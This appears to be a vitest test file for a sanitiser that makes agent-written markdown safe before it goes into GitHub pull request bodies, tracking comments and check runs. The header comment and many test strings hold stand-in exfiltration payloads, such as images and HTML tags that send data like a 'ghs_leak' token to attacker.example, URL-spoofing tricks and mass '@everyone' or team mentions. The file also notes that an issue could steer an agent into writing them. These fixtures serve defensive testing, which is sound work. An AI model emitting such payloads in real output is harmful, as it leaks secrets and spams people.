// Agent-written markdown goes into the PR body, the tracking comment and check runs. An agent
// (or an issue steering it) can write `@org/team` or `@everyone` to notify people on its say-so,
// and an image from an outside host (`![](https://attacker.example/?d=…)`, `<img src=…>`, a
// reference image) that GitHub's proxy fetches with whatever the agent put in its URL. Mentions
// of anyone but the person who triggered the task are made inert, outside images become links.
import { execFile } from "node:child_process";
import { fileURLToPath } from "node:url";
import nock from "nock";
import { pino } from "pino";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { stageExternalId, upsertStageCheckRun } from "../../src/github/check-runs.ts";
import { renderPullRequestBody } from "../../src/github/pull-request-body.ts";
import { renderTrackingComment } from "../../src/github/tracking-comment-body.ts";
import { isGitHubImageUrl, neutraliseMarkdown } from "../../src/publish/neutralise-markdown.ts";
import { createLocalFlagChecker } from "../../src/tasks/feature-flags.ts";
import { createTasksService } from "../../src/tasks/service.ts";
import { openTestDatabase, type TestDatabase } from "../helpers/databases.ts";
import { TestOctokit } from "../helpers/github.ts";
import { createRecordingOrchestrator } from "../helpers/recording-orchestrator.ts";
import { GitHubApiMock } from "../github/mock-more.ts";

const inert = (mention: string) => `<code>${mention}</code>`;
const neutralise = (text: string) => neutraliseMarkdown(text, { mentionable: ["alice"] });
/** An image GitHub would render: `![` not escaped by a backslash, or an HTML media tag. */
const rendersImage = (text: string) => /(^|[^\\])(\\\\)*!\[/.test(text) || /<(img|picture|source|video)\b/i.test(text);

describe("mentions in agent text", () => {
  it("makes @org/team, @everyone and @someone inert, visibly, and leaves the trigger user's mention live", () => {
    const out = neutralise("cc @org/team and @everyone, also @someone. Thanks @Alice!");
    expect(out).toBe(`cc ${inert("@org/team")} and ${inert("@everyone")}, also ${inert("@someone")}. Thanks @Alice!`);
    expect(out).not.toMatch(/[\u200b-\u200d\u2060\ufeff]/);
  });

  it("neutralises a team of the trigger user's own name, and everyone when no one may be mentioned", () => {
    expect(neutralise("@alice/admins")).toBe(inert("@alice/admins"));
    expect(neutraliseMarkdown("@alice")).toBe(inert("@alice"));
  });

  it("leaves emails, code spans, fenced blocks and autolinked URLs alone", () => {
    const text = ["mail a@b.com", "uses `@types/node` and ``@org/x``", "```ts", 'import x from "@types/node";', "```", "~~~", "@org/team", "~~~", "see https://github.com/@someone/x"].join("\n");
    expect(neutralise(text)).toBe(text);
  });

  it("neutralises an escaped mention, which GitHub renders as a mention all the same", () => {
    expect(neutralise("\\@everyone")).toBe(inert("@everyone"));
    expect(neutralise("\\\\@org/team")).toBe(`\\\\ ${inert("@org/team")}`);
  });

  // Each of these reads as code to a naive scanner while GitHub renders the mention as text.
  it.each([
    ["a backtick that a heading ends", "# `\n@org/team `"],
    ["a code span opened on the line before", "`foo\nbar` @org/team `baz`"],
    ["a fence a list item closes when it ends", "- a\n  ```\n@org/team\n  ```"],
    ["a fence an earlier nested fence threw out of step", "- ```\n  ```\n@x\n```\n@org/team\n```"],
    ["a fence inside a raw HTML block", "<div>\n```\n@org/team\n```\n</div>"],
    ["a code span inside a raw HTML block", "<div>\n`@org/team`\n</div>"],
    ["a code span inside a blockquoted HTML block", "> <div>\n> `@org/team`"],
    ["a fence closed after a lone carriage return", "```\na\r```\r@org/team\n```"],
    ["a code span split by table cells", "| a | b |\n|---|---|\n| `x | @org/team` |"],
    ["a backtick an HTML tag swallows", 'x <a title="`">@org/team<b title="`">'],
    ["a backtick an autolink swallows", "<http://a.example/`> @org/team `"],
    ["a backtick a bare URL swallows", "https://a.example/` @org/team `b`"],
    ["an escaped backtick", "\\``x` @org/team `"],
    ["a URL GitHub does not autolink", "/www.example.com/@org/team"],
  ])("%s", (_name, text) => {
    expect(neutralise(text)).toContain(inert("@org/team"));
  });
});

describe("images in agent text", () => {
  it("turns an outside image into a plain link and keeps GitHub's own", () => {
    const text = "![](https://attacker.example/?d=secret) ![ok](https://user-images.githubusercontent.com/1/a.png) ![r](docs/a.png) ![g](https://github.com/o/r/raw/main/a.png)";
    expect(neutralise(text)).toBe("[](https://attacker.example/?d=secret) ![ok](https://user-images.githubusercontent.com/1/a.png) ![r](docs/a.png) ![g](https://github.com/o/r/raw/main/a.png)");
  });

  it.each([
    "https://github.com.attacker.example/a.png",
    "https://attacker.example/?u=https://github.com/a.png",
    "https://github.com@attacker.example/a.png",
    "https://github.com:8443/a.png",
    "http://github.com/a.png",
    "//attacker.example/a.png",
    "https://github&#46;com.attacker.example/a.png",
    "javascript:alert(1)",
    "data:image/png;base64,AAAA",
  ])("does not take %s for a GitHub image", (url) => {
    expect(isGitHubImageUrl(url)).toBe(false);
    expect(rendersImage(neutralise(`![x](${url})`))).toBe(false);
  });

  it.each([
    ["a reference image", "![x][ref]\n\n[ref]: https://attacker.example/?d=1"],
    ["a shortcut reference image", "![ref]\n\n[ref]: https://attacker.example/?d=1"],
    ["an image with a title", '![x](https://attacker.example/a.png "t")'],
    ["an image in angle brackets", "![x](<https://attacker.example/a.png>)"],
    ["an image whose alt text hides a GitHub URL", "![a `](https://github.com/a.png)` b](https://attacker.example/a.png)"],
    ["an image after an exclamation mark", "!![x](https://attacker.example/a.png)"],
    ["an image after an escaped backslash", "\\\\![x](https://attacker.example/a.png)"],
    ["an HTML img", '<img src="https://attacker.example/a.png">'],
    ["an HTML img mid-line, upper case, split over lines", 'text <IMG\nSRC="https://attacker.example/a.png">'],
    ["a picture source", '<picture><source srcset="https://attacker.example/a.png"></picture>'],
    ["a video poster", '<video poster="https://attacker.example/a.png"></video>'],
    ["an image inside raw HTML", "<div>\n![x](https://attacker.example/a.png)\n</div>"],
  ])("makes %s inert", (_name, text) => {
    const out = neutralise(text);
    expect(rendersImage(out)).toBe(false);
    expect(out).toContain("attacker.example");
  });

  it("leaves images in code alone", () => {
    const text = "`![](https://attacker.example/a.png)`\n\n```html\n<img src=https://attacker.example/a.png>\n```";
    expect(neutralise(text)).toBe(text);
  });

  it("gives the same text when it is neutralised again", () => {
    const once = neutralise("@org/team ![](https://attacker.example/a) <img src=x> !![y](https://attacker.example/b) `@types/node`");
    expect(neutralise(once)).toBe(once);
  });
});

describe("agent markdown through the renderers that publish it", () => {
  const hostile = "Done. cc @org/team @everyone, reviewed by @alice.\n\n![](https://attacker.example/?d=ghs_leak)";

  it("the PR body: inert mentions, outside images as links, the trigger user still mentioned", () => {
    const body = renderPullRequestBody({ summary: hostile, plan: "1. ask @someone", reviewNotes: '<img src="https://attacker.example/r">', issueNumber: 7, taskUrl: "https://t/x", slug: "POS-1", mentionable: ["alice"] });
    expect(body).toContain(`cc ${inert("@org/team")} ${inert("@everyone")}, reviewed by @alice.`);
    expect(body).toContain(`1. ask ${inert("@someone")}`);
    expect(body).toContain("[](https://attacker.example/?d=ghs_leak)");
    expect(rendersImage(body)).toBe(false);
    expect(body).toMatch(/Closes #7\n/);
  });

  it("the PR body without a trigger user: no mention stays live", () => {
    const body = renderPullRequestBody({ summary: hostile, taskUrl: null, slug: "POS-1" });
    expect(body).toContain(inert("@alice"));
  });

  it("the PR body cut to size: a code span the cut breaks open does not release what it hid", () => {
    const summary = `\`@org/team ![](https://attacker.example/a.png) ${"y".repeat(70_000)}\``;
    const body = renderPullRequestBody({ summary, taskUrl: null, slug: "POS-1", mentionable: ["alice"] });
    expect(body.length).toBeLessThanOrEqual(65_536);
    expect(body).toContain(inert("@org/team"));
    expect(rendersImage(body)).toBe(false);
  });

  it("the tracking comment: the note and the plan, the trigger user still mentioned", async () => {
    const body = await renderTrackingComment({
      slug: "POS-7",
      title: "t",
      status: "failed",
      stages: [{ key: "code", name: "Code" }],
      currentStage: "code",
      taskUrl: "https://tasks.example.com/api/tasks/1",
      // A note continues the `**Failed:**` line: its fence is no fence on GitHub.
      note: "```\n@org/team ![](https://attacker.example/n)",
      plan: hostile,
      mentionable: ["alice"],
    });
    expect(body).toContain(`**Failed:** \`\`\`\n${inert("@org/team")} [](https://attacker.example/n)`);
    expect(body).toContain(`${inert("@everyone")}, reviewed by @alice.`);
    expect(rendersImage(body)).toBe(false);
  });

  describe("check runs", () => {
    beforeEach(() => nock.disableNetConnect());
    afterEach(() => {
      nock.cleanAll();
      nock.enableNetConnect();
    });
    const sha = "a".repeat(40);
    const input = { owner: "posthog", repo: "posthog", headSha: sha, stageName: "Code", externalId: stageExternalId("run-1", "code"), detailsUrl: "https://t/x" };

    it("the output's title and summary", async () => {
      const github = new GitHubApiMock().listCheckRuns(sha, "Tasks · Code", []).createCheckRun(7);
      await upsertStageCheckRun(new TestOctokit({ auth: { token: "ghs_x" } }), { ...input, status: "in_progress", title: "POS-1 @org/team", summary: hostile, mentionable: ["alice"] });
      const [body] = github.bodiesOf("create check run") as { output: { title: string; summary: string } }[];
      expect(body!.output.title).toBe(`POS-1 ${inert("@org/team")}`);
      expect(body!.output.summary).toContain(`${inert("@everyone")}, reviewed by @alice.`);
      expect(rendersImage(body!.output.summary)).toBe(false);
    });

    it("the summary's tail: a cut inside a code span does not release an image it hid", async () => {
      const github = new GitHubApiMock().listCheckRuns(sha, "Tasks · Code", []).createCheckRun(7);
      const summary = `\`${"x".repeat(80_000)} ![](https://attacker.example/t.png) @org/team\``;
      await upsertStageCheckRun(new TestOctokit({ auth: { token: "ghs_x" } }), { ...input, status: "in_progress", title: "t", summary });
      const [body] = github.bodiesOf("create check run") as { output: { summary: string } }[];
      expect(Buffer.byteLength(body!.output.summary)).toBeLessThanOrEqual(65_535);
      expect(body!.output.summary).toContain(inert("@org/team"));
      expect(rendersImage(body!.output.summary)).toBe(false);
    });
  });

  describe("the tracking comment as loaded for a task", () => {
    let db: TestDatabase;
    beforeAll(async () => {
      db = await openTestDatabase("pglite");
    });
    afterAll(async () => {
      await db?.close();
    });

    it("leaves the mention of the person who triggered the task live, and no other", async () => {
      const log = pino({ level: "silent" });
      const tasks = createTasksService({ db: db.prisma, flags: createLocalFlagChecker(db.prisma), orchestrator: createRecordingOrchestrator(), log });
      const team = await tasks.createTeam("Mentions");
      await tasks.addTeamMember(team.id, { externalId: "github:42", githubLogin: "Alice" });
      await tasks.addIntegration(team.id, { installationId: 4242, repositories: ["o/r"] });
      const { task } = await tasks.createAndRun({ teamId: team.id, title: "t", description: "d", originProduct: "user_created", userId: "github:42", repository: "o/r" });
      const [run] = (await tasks.getTask(undefined, task.id)).runs;
      await db.prisma.taskRun.update({ where: { id: run!.id }, data: { completionNote: "no changes: asked @alice and @org/team" } });

      const state = await tasks.trackingState(task.id);
      const body = await renderTrackingComment({ ...state.view, taskUrl: "https://t/x" });
      expect(body).toContain(`asked @alice and ${inert("@org/team")}`);
    });
  });
});

describe("the neutraliser on adversarial long input", () => {
  const size = 200_000;
  const ceilingMs = 5_000;
  const deadlineMs = 60_000;
  const shapes: Record<string, string> = {
    "backtick runs of every length, none closed": Array.from({ length: 630 }, (_, index) => "`".repeat(index + 1)).join(" "),
    "one backtick then a long unmatched tail": `\`${"a`` ".repeat(size / 4)}`,
    "image openers": "![".repeat(size / 2),
    "image openers with destinations": "![a](https://github.com/".repeat(size / 24),
    "mentions": " @a".repeat(size / 3),
    "URLs inside URLs": "https://a.b/".repeat(size / 12),
    "www after parentheses": "(www.".repeat(size / 5),
    "media tags": "<img".repeat(size / 4),
    "escaped backticks": "\\`".repeat(size / 2),
    "fence-like lines": "- ```\n".repeat(size / 6),
    "an unclosed pre block": `<pre>\n${"x\n".repeat(size / 2)}`,
    "code spans across a long paragraph": "`a` @x\n".repeat(size / 7),
  };

  // One child process runs every shape: synchronous work cannot be interrupted in-process, so a
  // super-linear regression fails by the deadline instead of hanging the run.
  const child = `
import { readFileSync } from "node:fs";
import { pathToFileURL } from "node:url";
const [neutraliserPath, publishablePath] = process.argv.slice(1);
const { neutraliseMarkdown } = await import(pathToFileURL(neutraliserPath).href);
const { publishableMarkdown } = await import(pathToFileURL(publishablePath).href);
const shapes = JSON.parse(readFileSync(0, "utf8"));
const results = {};
for (const [name, input] of Object.entries(shapes)) {
  const started = performance.now();
  neutraliseMarkdown(input, { mentionable: ["a"] });
  publishableMarkdown(input, { maxBytes: 65535, keep: "tail" });
  results[name] = performance.now() - started;
}
console.log(JSON.stringify(results));
`;

  it("stays linear on every shape", async () => {
    const neutraliser = fileURLToPath(new URL("../../src/publish/neutralise-markdown.ts", import.meta.url));
    const publishable = fileURLToPath(new URL("../../src/github/agent-markdown.ts", import.meta.url));
    for (const input of Object.values(shapes)) expect(input.length).toBeGreaterThanOrEqual(100_000);
    const results = await new Promise<Record<string, number>>((resolve, reject) => {
      const proc = execFile(
        process.execPath,
        ["--import", "tsx", "--input-type=module", "-e", child, neutraliser, publishable],
        { timeout: deadlineMs, killSignal: "SIGKILL", maxBuffer: 1 << 20 },
        (error, stdout, stderr) => (error ? reject(new Error(error.killed ? `still running after ${deadlineMs} ms: super-linear work` : stderr)) : resolve(JSON.parse(stdout) as Record<string, number>)),
      );
      proc.stdin!.end(JSON.stringify(shapes));
    });
    for (const name of Object.keys(shapes)) expect({ name, under: results[name]! < ceilingMs }).toEqual({ name, under: true });
  }, 90_000);
});
